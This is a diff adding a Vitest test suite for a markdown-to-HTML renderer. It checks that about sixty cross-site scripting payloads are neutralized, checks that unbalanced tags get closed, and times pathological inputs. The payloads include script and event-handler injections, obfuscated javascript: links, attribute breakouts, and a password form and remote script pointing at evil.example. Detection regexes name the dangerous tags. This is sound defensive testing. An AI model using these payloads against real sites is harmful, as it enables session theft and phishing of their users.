@@ -1,0 +1,138 @@
+/** Texts that want more than to be read. Nothing may survive that runs, loads or takes over the page. */
+import { describe, expect, it } from 'vitest'
+import { renderMarkdown } from './render.ts'
+
+const html = (source: string) => renderMarkdown(source).html
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="/uploads/a.png" onerror="alert(1)">',
+  '<img/src=x/onerror=alert(1)//',
+  '<svg onload=alert(1)><circle/></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<u onclick="alert(1)" style="color:red" id="main" class="mast">x</u>',
+  '<table onmouseover=alert(1)><tr><td onclick=alert(1) style="x">1</td></tr></table>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x"></object><embed src="x"><applet></applet>',
+  '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=x>',
+  '<!-- <img src=x onerror=alert(1)> --><!--> <script>alert(1)</script> -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?><script>alert(1)</script>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x]( javascript:alert(1) )',
+  '[x](<javascript:alert(1)>)',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox(1))',
+  '[x](file:///etc/passwd)',
+  '[x](//evil.example/)',
+  '[x](\\\\evil.example/)',
+  '[x](\\\\\\\\evil.example/)',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x](//evil.example/x.png)',
+  '![x](/uploads/../admin/x.png)',
+  '![x](/uploads/a.png" onerror="alert(1))',
+  '![x" onerror="alert(1)](/uploads/a.png)',
+  '![x](/uploads/a.png "t\\" onerror=\\"alert(1)")',
+  '[x](/uploads/a.docx "t\\" onclick=\\"alert(1)")',
+  '[x](https://example.org/"onclick="alert(1))',
+  '<javascript:alert(1)>',
+  '<https://example.org/"onclick=alert(1)>',
+  '[ref]: javascript:alert(1)\n\n[x][ref]',
+  '## <img src=x onerror=alert(1)> 标题 " onclick="x',
+  '[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>',
+  '[^"><script>]: x\n\n正文[^"><script>]',
+  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | <svg/onload=alert(1)> |',
+]
+
+const runs =
+  /<(?:script|style|iframe|object|embed|form|svg|math|base|meta|link|button|textarea|noscript|template|details)[\s>/]/i
+const inTag = (rendered: string, pattern: RegExp) =>
+  (rendered.match(/<[a-z][^>]*>/gi) ?? []).some((tag) => pattern.test(tag))
+
+/** Tags with the values of their attributes cut out, so that quoted text is not taken for an attribute. */
+const bare = (rendered: string) => rendered.replaceAll(/="[^"]*"/g, '=""')
+
+describe('hostile texts', () => {
+  it.each(attacks)('%s', (source) => {
+    const rendered = html(source)
+    expect(rendered).not.toMatch(runs)
+    expect(inTag(bare(rendered), /\son\w+\s*=/i)).toBe(false)
+    expect(inTag(bare(rendered), /\sstyle\s*=/i)).toBe(false)
+    expect(inTag(rendered, /(?:href|src)="(?:\s*(?:javascript|data|vbscript|file):|\/\/|\\)/i)).toBe(
+      false,
+    )
+    expect(inTag(rendered, /<(?:img|video|audio)[^>]*src="(?!\/uploads\/(?!\.\.))/i)).toBe(false)
+    expect(inTag(rendered, /id="(?!s-)/)).toBe(false)
+    expect(inTag(rendered, /class="(?!attachment"|external"|facts"|footnotes|table-scroll|video"|audio")/)).toBe(false)
+  })
+
+  it.each([
+    ['</div></main></body></html>后文', '后文'],
+    ['<p>一<p>二', /<p>一<\/p><p>二<\/p>/],
+    ['<table><tr><td>一', /<td>一<\/td><\/tr><\/table><\/div>/],
+    ['<u>一', /<u>一<\/u>/],
+    ['一</u></strong></p></section>', /^<p>一<\/p>/],
+    ['<b><i>一</b></i>', /^<p><b><i>一<\/i><\/b>/],
+  ])('unbalanced %s is closed', (source, expected) => {
+    const rendered = html(source).trim()
+    if (typeof expected === 'string') expect(rendered).toBe(expected)
+    else expect(rendered).toMatch(expected)
+    for (const name of ['p', 'u', 'table', 'div', 'strong', 'b', 'i'])
+      expect(rendered.split(`<${name}>`).length + rendered.split(`<${name} `).length).toBe(
+        rendered.split(`</${name}>`).length + 1,
+      )
+  })
+})
+
+describe('large texts', () => {
+  const law =
+    `## 第一章 总则\n\n${'第一条 为了规范，**制定本法。**根据宪法，参见[办法](/news/)。\n\n'.repeat(60)}`.repeat(45)
+
+  it('of 300 KB keep every heading and stay quick', () => {
+    expect(Buffer.byteLength(law)).toBeGreaterThan(200_000)
+    const started = performance.now()
+    const { html: rendered, headings } = renderMarkdown(law)
+    expect(performance.now() - started).toBeLessThan(3000)
+    expect(headings).toHaveLength(45)
+    expect(rendered.match(/<strong>制定本法。<\/strong>根据/g)).toHaveLength(2700)
+  })
+
+  it.each([
+    ['marks', '**a '.repeat(75_000)],
+    ['brackets', '['.repeat(300_000)],
+    ['underscores', '_a'.repeat(150_000)],
+    ['angles', '<'.repeat(300_000)],
+    ['pictures', '![a]('.repeat(60_000)],
+    ['quotes', '> '.repeat(100_000)],
+    ['tags', '<u>'.repeat(100_000)],
+    ['open tags', '<a '.repeat(100_000)],
+    ['nested lists', Array.from({ length: 700 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
+    ['paragraphs at the bound', `${'_a'.repeat(9_999)}\n\n`.repeat(3)],
+  ])('of nothing but %s end', (_name, source) => {
+    const started = performance.now()
+    expect(html(source)).not.toMatch(runs)
+    expect(performance.now() - started).toBeLessThan(8000)
+  })
+})
